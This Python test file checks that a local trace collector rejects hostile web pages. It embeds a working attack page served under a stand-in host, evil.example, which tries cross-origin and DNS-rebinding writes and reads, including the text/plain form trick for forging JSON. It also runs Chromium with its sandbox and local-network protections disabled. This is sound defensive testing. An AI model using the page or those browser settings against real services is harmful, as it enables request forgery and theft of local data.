#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""A web page in a real browser, on another origin or after DNS rebinding, can neither write to the collector nor read from it.

The collector runs with --auth=none: what holds the page off here are the rules about Host, Origin, Sec-Fetch-Site and type alone. A
second server that takes everything shows that the browser really sends what the collector then refuses."""

import http.client
import http.server
import json
import os
import shutil
import signal
import socketserver
import subprocess
import tempfile
import threading

import tap

EVIL = "evil.example"  # never looked up: the browser asks the proxy
PAGE = """<!doctype html><meta charset="utf-8"><title>attack</title><script>
const targets = %(targets)s, readable = [], done = [];
function saw(what, text) { if (text && text.length) readable.push([what, String(text).slice(0, 200)]); }
async function attempt(what, action) {
  try { await Promise.race([action(), new Promise(after => setTimeout(after, 1500))]); } catch (error) {}
  done.push(what);
}
function frame(name) {
  const element = document.createElement("iframe");
  element.name = name; document.body.append(element); return element;
}
function form(url, type, text) {
  return new Promise(next => {
    const name = "f" + Math.random(), element = document.createElement("form"), field = document.createElement("input");
    const target = frame(name);
    target.onload = () => { try { saw(url + " form", target.contentDocument.body.innerText); } catch (error) {} next(); };
    Object.assign(element, {method: "POST", action: url, enctype: type, target: name});
    /* The usual trick: name and value make JSON together. */
    Object.assign(field, {type: "hidden", name: text.slice(0, -1) + ',"x":"', value: '"}'});
    element.append(field); document.body.append(element); element.submit();
  });
}
function load(kind, url) {
  return new Promise(next => {
    const element = document.createElement(kind);
    element.onload = () => { readable.push([url + " as " + kind, "loaded"]); next(); };
    element.onerror = next;
    if (kind == "link") Object.assign(element, {rel: "stylesheet", href: url}); else element.src = url;
    document.body.append(element);
  });
}
async function read(url, options) { const answer = await fetch(url, options); saw(url + " " + answer.status, answer.ok ? await answer.text() : ""); }
async function all() {
  for (const [base, path, write] of targets) {
    const url = base + path, json = {"Content-Type": "application/json"};
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
      await attempt(url + " " + type, () => read(url, {method: "POST", mode: "no-cors", headers: {"Content-Type": type}, body: write}));
    await attempt(url + " cors", () => read(url, {method: "POST", headers: json, body: write}));
    await attempt(url + " blob", () => read(url, {method: "POST", mode: "no-cors", body: new Blob([write])}));
    await attempt(url + " beacon", async () => navigator.sendBeacon(url, new Blob([write], {type: "text/plain"})));
    await attempt(url + " xhr", () => new Promise(next => {
      const request = new XMLHttpRequest();
      request.open("POST", url); request.onloadend = () => { if (request.status == 200) saw(url + " xhr", request.responseText); next(); };
      request.send(write);
    }));
    await attempt(url + " text form", () => form(url, "text/plain", write));
    await attempt(url + " form", () => form(url, "application/x-www-form-urlencoded", write));
  }
  for (const base of [...new Set(targets.map(each => each[0]))])
    for (const path of ["/fluoroscope/v1/status", "/fluoroscope/v1/changes?after=0", "/"]) {
      const url = base + path;
      for (const mode of ["cors", "no-cors"]) await attempt(url + " get " + mode, () => read(url, {mode}));
      for (const kind of ["img", "script", "link"]) await attempt(url + " " + kind, () => load(kind, url));
      await attempt(url + " frame", () => new Promise(next => {
        const element = frame("g"); element.onload = () => {
          try { if (!element.contentDocument.title.startsWith("attack")) saw(url + " frame", element.contentDocument.body.innerText); } catch (error) {}
          next(); };
        element.src = url; }));
      await attempt(url + " socket", () => new Promise(next => {
        const socket = new WebSocket(url.replace("http", "ws"));
        socket.onopen = () => { readable.push([url, "socket opened"]); next(); }; socket.onerror = next; }));
      await attempt(url + " events", () => new Promise(next => {
        const source = new EventSource(url); source.onopen = () => { readable.push([url, "events"]); next(); };
        source.onerror = () => { source.close(); next(); }; }));
    }
  await fetch("/report", {method: "POST", body: JSON.stringify({readable, done})});
}
addEventListener("load", all);
</script>"""


class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True

    def handle_error(self, request, client_address):
        pass  # the browser went away


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *unused):
        pass

    def take_body(self):
        return self.rfile.read(int(self.headers.get("Content-Length") or 0))

    def give(self, status, body, content_type="text/plain", **headers):
        self.send_response_only(status)
        for name, value in {"Content-Type": content_type, "Content-Length": str(len(body)), **headers}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.answer()

    do_POST = do_OPTIONS = do_GET


def serve(handler):
    server = Server(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
    return server


class Attack:
    """The page's host, as a proxy: first it is the attacker's server, then the name stands for the collector's address."""

    def __init__(self, port, targets):
        attack = self
        self.report = None
        self.rebound = []  # (method, path, status) that the collector answered under the page's own name
        page = (PAGE % {"targets": json.dumps(targets)}).encode()

        class Proxy(Handler):
            def answer(self):
                path = self.path.partition(EVIL)[2].partition("/")[2]
                body = self.take_body()
                if path == "attack":
                    self.give(200, page, "text/html")
                elif path == "report":
                    attack.report = json.loads(body)
                    self.give(200, b"")
                else:
                    self.forward("/" + path, body)

            def forward(self, path, body):
                connection = http.client.HTTPConnection("127.0.0.1", port, timeout=tap.PATIENCE)
                connection.putrequest(self.command, path, skip_host=True, skip_accept_encoding=True)
                for name, value in self.headers.items():
                    if name.lower() not in ("proxy-connection", "connection"):
                        connection.putheader(name, value)
                connection.endheaders(body)
                answer = connection.getresponse()
                text = answer.read()
                attack.rebound.append((self.command, path, answer.status))
                self.give(answer.status, text, answer.headers.get("Content-Type", "text/plain"))
                connection.close()

        self.server = serve(Proxy)


def browse(home, attack, port):
    """Opens the page in a browser of its own until it has told what it could do."""
    program = shutil.which("chromium") or shutil.which("chromium-browser")
    if not program:
        raise tap.Skip("chromium is not installed")
    # Newer browsers ask before a page may reach this computer; here the user has allowed it.
    switched_off = "LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessRespectPreflightResults,HttpsUpgrades"
    command = [program, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-background-networking",
               "--disable-component-update", "--disable-sync", "--disable-extensions", "--no-first-run", "--no-default-browser-check",
               "--disable-default-apps", f"--disable-features={switched_off}", f"--user-data-dir={home}/browser",
               f"--proxy-server=http://127.0.0.1:{attack.server.server_address[1]}", "--remote-debugging-port=0", f"http://{EVIL}:{port}/attack"]
    with open(f"{home}/browser.log", "wb") as log:
        process = subprocess.Popen(command, env=tap.environment(home), stdout=log, stderr=log, start_new_session=True, preexec_fn=tap.tie)
    try:
        tap.wait_until(lambda: attack.report or process.poll() is not None, "the page has told what it could do")
        assert attack.report, open(f"{home}/browser.log", errors="replace").read()[-2000:]
    finally:
        try:
            os.killpg(process.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        process.wait()


def test_pages():
    """neither another origin nor a rebound name writes anything or reads anything"""
    home = tempfile.mkdtemp(prefix="fluo-browser-")
    taken = []

    class Control(Handler):
        def answer(self):
            taken.append((self.command, self.path, self.headers.get("Content-Type"), self.take_body()))
            self.give(200, b"{}", "application/json", **{"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*"})

    control = serve(Control)
    try:
        with tap.Collector(arguments=["--auth=none"]) as collector:
            open_url = f"http://127.0.0.1:{control.server_address[1]}"
            document = json.dumps({"TraceSegmentDocuments": [json.dumps(tap.segment())]})
            otlp = json.dumps({"resourceSpans": [{"scopeSpans": [{"spans": [{
                "traceId": "6b" * 16, "spanId": "6b" * 8, "name": "evil", "kind": 2, "startTimeUnixNano": "1790000000000000000",
                "endTimeUnixNano": "1790000001000000000"}]}]}]})
            group = json.dumps({"GroupName": "evil", "FilterExpression": ""})
            question = json.dumps({"StartTime": 0, "EndTime": 4102444800})
            targets = [["", "/TraceSegments", document], ["", "/TraceSummaries", question]]  # under the page's own name
            for base in (collector.endpoint, open_url):
                targets += [[base, "/TraceSegments", document], [base, "/CreateGroup", group], [base, "/TraceSummaries", question]]
            targets.append(["http://" + collector.ready["otlp"][0], "/v1/traces", otlp])
            secret = tap.segment(name="the-secret-service")
            collector.put(secret)
            before = collector.status()
            attack = Attack(collector.port, targets)
            browse(home, attack, collector.port)
            after = collector.status()
            tap.equal(after["Stored"], before["Stored"], f"documents: {after}")
            tap.equal([each["GroupName"] for each in collector.call("/Groups")["Groups"]], ["Default"])
            tap.equal({each["Problem"] for reason in after["Refused"].values() for each in reason["Examples"]},
                      {"requests from web pages are not served"})
            # Everything that could be read came from the server that wants to be read, or is the refusal.
            seen = [each for each in attack.report["readable"] if not each[0].startswith(open_url) and "this Host is not served" not in each[1]]
            tap.equal(seen, [])
            assert "the-secret-service" not in json.dumps(attack.report), attack.report
            # … and the page did what it is here for.
            kinds = {(method, path) for method, path, _, _ in taken}
            assert {("POST", "/TraceSegments"), ("POST", "/CreateGroup"), ("GET", "/fluoroscope/v1/status")} <= kinds, kinds
            assert any(body and json.loads(body) == json.loads(document) for method, path, kind, body in taken
                       if path == "/TraceSegments" and kind and kind.startswith("text/plain")), "a page can send JSON as text"
            assert any(each[0].startswith(open_url) for each in attack.report["readable"]), attack.report
            requests = {each["Protocol"]: each["Received"] for each in after["Listeners"]}
            assert requests["otlp"] > 5, requests
            assert len(attack.rebound) > 20, attack.rebound
            tap.equal({status for _, _, status in attack.rebound}, {403})
            assert {"GET", "POST"} <= {method for method, _, _ in attack.rebound}, attack.rebound
    finally:
        control.shutdown()
        shutil.rmtree(home, ignore_errors=True)


if __name__ == "__main__":
    tap.run([test_pages])
